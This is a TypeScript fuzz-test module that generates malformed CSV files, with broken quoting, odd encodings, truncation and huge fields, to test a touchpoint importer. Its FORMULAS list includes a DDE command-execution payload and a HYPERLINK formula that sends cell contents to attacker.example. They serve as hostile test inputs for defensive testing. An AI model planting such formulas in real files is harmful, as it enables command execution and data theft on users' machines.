import fc from 'fast-check';

/** Malformed CSV files for the importer's fuzz test (issue 7.5): a table, then the ways exports go wrong. */

export const TOUCHPOINT_HEADER = [
  'touchpoint_id',
  'contact_id',
  'account_id',
  'occurred_at',
  'channel',
  'campaign',
  'source',
  'medium',
];

export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
  '+1+2',
  '-3+4',
  '@SUM(A1:A9)',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
];

const SPECIAL_UNITS = [
  '\0',
  '\r',
  '\n',
  '\r\n',
  '"',
  ',',
  ';',
  '\t',
  '|',
  '\u0007',
  '\u001b',
  '\u2028',
  '\uFEFF',
  '\\',
];

/** Text with control characters (NUL included), delimiters, quotes and line breaks mixed into ordinary characters. */
const hostileText = fc.string({
  unit: fc.oneof(fc.constantFrom(...SPECIAL_UNITS), fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 })),
  maxLength: 24,
});

const id = (prefix: string): fc.Arbitrary<string> => fc.nat(40).map((n) => `${prefix}-${n}`);

const dates = fc.constantFrom(
  '2024-03-01T10:00:00Z',
  '2024-03-01',
  '3/1/2024',
  '13/01/2024',
  '01.03.2024',
  '2024-02-30',
  '99999-01-01',
  'yesterday',
  '',
);

/** A cell for a column: mostly plausible values, often a formula or hostile text in any column. */
function cellFor(plausible: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 6, arbitrary: plausible },
    { weight: 1, arbitrary: fc.constantFrom(...FORMULAS) },
    { weight: 1, arbitrary: hostileText },
    { weight: 1, arbitrary: fc.constant('') },
    { weight: 1, arbitrary: plausible.map((value) => ` ${value} `) },
  );
}

const PLAUSIBLE: fc.Arbitrary<string>[] = [
  id('TP'),
  id('CON'),
  fc.oneof(id('ACC'), fc.constant('')),
  dates,
  fc.constantFrom('paid_search', 'email', 'webinar', 'event'),
  fc.constantFrom('Q1 campaign', 'Spring "launch"', 'a, b; c'),
  fc.constantFrom('google', 'linkedin', ''),
  fc.constantFrom('cpc', 'organic', ''),
];

const row = fc
  .tuple(...PLAUSIBLE.map(cellFor), fc.constantFrom('same', 'same', 'same', 'same', 'fewer', 'more'))
  .map(([...cells]) => {
    const shape = cells.pop();
    if (shape === 'fewer') return cells.slice(0, cells.length - 1);
    if (shape === 'more') return [...cells, 'extra'];
    return cells;
  });

const header: fc.Arbitrary<string[]> = fc.oneof(
  { weight: 20, arbitrary: fc.constant(TOUCHPOINT_HEADER) },
  { weight: 1, arbitrary: fc.shuffledSubarray(TOUCHPOINT_HEADER, { minLength: 1 }) },
  { weight: 1, arbitrary: fc.constant<string[]>([...TOUCHPOINT_HEADER, 'notes', '']) },
  { weight: 1, arbitrary: fc.constant<string[]>([...TOUCHPOINT_HEADER, 'channel']) },
  { weight: 1, arbitrary: fc.array(hostileText, { minLength: 1, maxLength: 9 }) },
);

/** How a field is written: as a careful writer would, always quoted, or with a quote left open or stray. */
type Quoting = 'minimal' | 'always' | 'unbalanced' | 'stray';
const quoting = fc.constantFrom<Quoting>('minimal', 'minimal', 'minimal', 'always', 'unbalanced', 'stray');

export type Encoding = 'utf8' | 'utf8-bom' | 'utf16le' | 'utf16be' | 'latin1';

export interface CsvCase {
  header: string[];
  rows: string[][];
  delimiter: string;
  lineEnding: string;
  /** Per row (header first), how its fields are quoted. */
  quoting: Quoting[];
  encoding: Encoding;
  /** Bytes dropped into the file (0x80-0xFF and NUL), at fractions of its length. */
  strayBytes: { at: number; byte: number }[];
  /** The file cut at this fraction of its length, as an interrupted download leaves it. */
  truncateAt: number | null;
  blankLines: boolean;
  strict: boolean;
}

/** A point in the file, as a fraction of its length (fc.double leans on values next to 0: nearly every file cut). */
const fraction = fc.integer({ min: 0, max: 1000 }).map((permille) => permille / 1000);

const NO_STRAY_BYTES: CsvCase['strayBytes'] = [];

export const csvCase: fc.Arbitrary<CsvCase> = fc.record({
  header,
  rows: fc.array(row, { minLength: 1, maxLength: 30 }),
  delimiter: fc.constantFrom(',', ',', ';', '\t', '|'),
  lineEnding: fc.constantFrom('\n', '\r\n', '\r'),
  // The header is quoted with care more often than rows, so most files get as far as their rows.
  quoting: fc
    .tuple(
      fc.constantFrom<Quoting>('minimal', 'minimal', 'minimal', 'always', 'stray'),
      fc.array(quoting, { minLength: 30, maxLength: 30 }),
    )
    .map(([first, rest]) => [first, ...rest]),
  encoding: fc.oneof(
    { weight: 12, arbitrary: fc.constant<Encoding>('utf8') },
    { weight: 2, arbitrary: fc.constant<Encoding>('utf8-bom') },
    { weight: 1, arbitrary: fc.constantFrom<Encoding>('utf16le', 'utf16be') },
    { weight: 2, arbitrary: fc.constant<Encoding>('latin1') },
  ),
  strayBytes: fc.oneof(
    { weight: 8, arbitrary: fc.constant(NO_STRAY_BYTES) },
    {
      weight: 1,
      arbitrary: fc.array(
        fc.record({ at: fraction, byte: fc.oneof(fc.constant(0), fc.integer({ min: 0x80, max: 0xff })) }),
        { minLength: 1, maxLength: 3 },
      ),
    },
  ),
  truncateAt: fc.oneof({ weight: 4, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: fraction }),
  blankLines: fc.boolean(),
  strict: fc.boolean(),
});

function field(value: string, delimiter: string, how: Quoting): string {
  const needsQuotes = value.includes(delimiter) || /["\r\n]/.test(value);
  switch (how) {
    case 'minimal':
      return needsQuotes ? `"${value.replaceAll('"', '""')}"` : value;
    case 'always':
      return `"${value.replaceAll('"', '""')}"`;
    case 'unbalanced':
      return `"${value}`;
    case 'stray':
      return `${value.slice(0, 1)}"${value.slice(1)}`;
  }
}

/** The file's bytes for a case. */
export function renderCsv(c: CsvCase): Buffer {
  const lines = [c.header, ...c.rows].map((cells, index) =>
    cells.map((value) => field(value, c.delimiter, c.quoting[index] ?? 'minimal')).join(c.delimiter),
  );
  const text = lines.join(c.blankLines ? c.lineEnding + c.lineEnding : c.lineEnding) + c.lineEnding;
  let bytes = encode(text, c.encoding);
  for (const { at, byte } of c.strayBytes) {
    const offset = Math.floor(at * bytes.length);
    bytes = Buffer.concat([bytes.subarray(0, offset), Buffer.from([byte]), bytes.subarray(offset)]);
  }
  if (c.truncateAt !== null) bytes = bytes.subarray(0, Math.floor(c.truncateAt * bytes.length));
  return bytes;
}

function encode(text: string, encoding: Encoding): Buffer {
  switch (encoding) {
    case 'utf8':
      return Buffer.from(text, 'utf8');
    case 'utf8-bom':
      return Buffer.from(`\uFEFF${text}`, 'utf8');
    case 'utf16le':
      return Buffer.from(`\uFEFF${text}`, 'utf16le');
    case 'utf16be':
      return Buffer.from(`\uFEFF${text}`, 'utf16le').swap16();
    case 'latin1':
      return Buffer.from(text, 'latin1');
  }
}

/** Lines in the file as any reader counts them (\r\n, \r or \n ends a line), so the highest line a report may name. */
export function lineCountOf(bytes: Buffer): number {
  let lines = 1;
  for (let i = 0; i < bytes.length; i++) {
    if (bytes[i] === 0x0a) lines++;
    else if (bytes[i] === 0x0d && bytes[i + 1] !== 0x0a) lines++;
  }
  return lines;
}

/** A touchpoints file whose one field is 1-5 MB, somewhere in its first rows, quoted or not. */
export const hugeFieldCase = fc.record({
  bytes: fc.integer({ min: 1 << 20, max: 5 << 20 }),
  unit: fc.constantFrom('x', 'ab,', 'line\n', '"q"', '\0'),
  row: fc.nat(3),
  column: fc.nat(TOUCHPOINT_HEADER.length - 1),
  rows: fc.integer({ min: 1, max: 5 }),
  strict: fc.boolean(),
});

export type HugeFieldCase = typeof hugeFieldCase extends fc.Arbitrary<infer T> ? T : never;

export function renderHugeCsv(c: HugeFieldCase): Buffer {
  const huge = c.unit.repeat(Math.ceil(c.bytes / c.unit.length));
  const rows = Array.from({ length: c.rows }, (_, n) => [
    `TP-${n}`,
    `CON-${n}`,
    '',
    '2024-03-01T10:00:00Z',
    'email',
    'Q1',
    'google',
    'cpc',
  ]);
  const target = rows[Math.min(c.row, rows.length - 1)] as string[];
  target[c.column] = huge;
  const lines = [TOUCHPOINT_HEADER, ...rows].map((cells) => cells.map((v) => field(v, ',', 'minimal')).join(','));
  return Buffer.from(`${lines.join('\n')}\n`, 'utf8');
}
